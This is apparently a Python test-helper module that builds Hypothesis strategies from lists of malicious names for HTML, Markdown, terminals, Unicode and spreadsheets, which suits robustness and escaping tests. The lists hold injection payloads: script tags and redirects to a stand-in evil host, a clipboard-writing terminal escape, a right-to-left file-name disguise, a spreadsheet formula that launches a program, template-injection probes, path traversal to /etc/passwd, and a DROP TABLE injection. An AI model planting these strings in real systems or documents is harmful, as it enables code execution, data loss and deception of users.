"""Names that people with bad intentions choose: for pages, Markdown, terminals, spreadsheets, templates, readers."""

from __future__ import annotations

from hypothesis import strategies as st

HTML = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>",
    "</title></style></script><img src=x onerror=a()>",
    '"><svg/onload=alert(1)>', "' autofocus onfocus=alert(1) x='", "<!--", "-->", "]]>", "<![CDATA[", "<?php ?>",
    "<style>*{display:none}</style>", "</style><style>@import'//evil.example'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<iframe srcdoc='<p>'></iframe>",
    "<a href=javascript:a()>x",
    "&lt;b&gt;&#60;b&#x3e;&amp;", "expression(alert(1))", "</details></table></main>", "<plaintext>", "<textarea>",
    "javascript:alert(1)", "data:text/html,<script>a()</script>", "url(//evil.example)", "<input value=a onclick=b>",
)  # fmt: skip
MARKDOWN = (
    "[link](https://evil.example)", "![image](//evil.example/x.png)", "[ref]: https://evil.example", "[x][ref]",
    "<https://evil.example>", "https://evil.example/x?y=z", "www.evil.example", "someone@evil.example", "@everyone",
    "#123 GH-7 owner/repo#5 0123abcdef0", "[^1]: note", "[^1]", "a | b | c", "| --- |", "a\\|b", "`a` ``b", "```\ncode",
    "~~~", "**bold** __b__ *i* _i_ ~~s~~", "# heading", "heading\n===", "- item", "+ item", "* item",
    "1. item", "9) item",
    "> quote", "    code", "\tcode", "---", "***", "___", "===", ":tada:", "$x$ $$y$$", "- [x] done", "\\",
    "\\\\", "a\\",
    "<!-- hidden -->", "<details><summary>x</summary>", "term\n: definition", "::: warning", "==mark==", "H~2~O x^2^",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x90q\x9c", "\rexit 0: ready", "\b\b\b\bready", "\x07", "a\x00b", "\x7f",
    "line\nexit 0: ready", "a\u2028b\u2029c", "\x0bx\x0cy", "\x85next", "\x1b(0lqk\x1b(B",
)  # fmt: skip
UNICODE = (
    "invoice\u202egnp.exe", "\u2066a\u2069\u2067b", "\u200ezero\u200bwidth\u200d\ufeff", "a\u0301\u0302\u0303" * 60,
    "z\u0337\u0338" + "\u0310" * 500, "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "\ud800", "\udfff x",
    "a\ud83dz", "\U000e0041\U000e007f", "\u115f\u3164\uffa0", "\u00ad\u034f\u061c", "\u6771\u4eac" * 90, "\ufffe",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\uff1cscript\uff1e", "\u2800",
)  # fmt: skip
OTHERS = (
    "=cmd|' /C calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=HYPERLINK(\"//evil.example\")", "{{7*7}}", "{% raw %}",
    "{# c #}", "${7*7}", "#{7*7}", "%s %n %(x)s", "{0} {x.__class__}", "../../etc/passwd", "C:\\x\\..\\y",
    "CON", "a/b:c*?",
    "'; DROP TABLE x;--", "N" * 10_000, "n " * 5_000, " ", "", "null", "\u00a0",
)  # fmt: skip
EVERY = (*HTML, *MARKDOWN, *TERMINAL, *UNICODE, *OTHERS)

names = st.one_of(
    st.sampled_from(EVERY),
    st.lists(st.sampled_from([name for name in EVERY if len(name) < 100]), min_size=1, max_size=4).map("".join),
    st.text(alphabet="<>&\"'`=/\\|*_[](){}#!+-.:;@$%~^? \n\t\r\x00\x1b\x9b\u202e\u200b\ud800aon1", max_size=40),
    st.text(max_size=20),
)
"""One of the list, several run together, or made of the signs that steer something."""
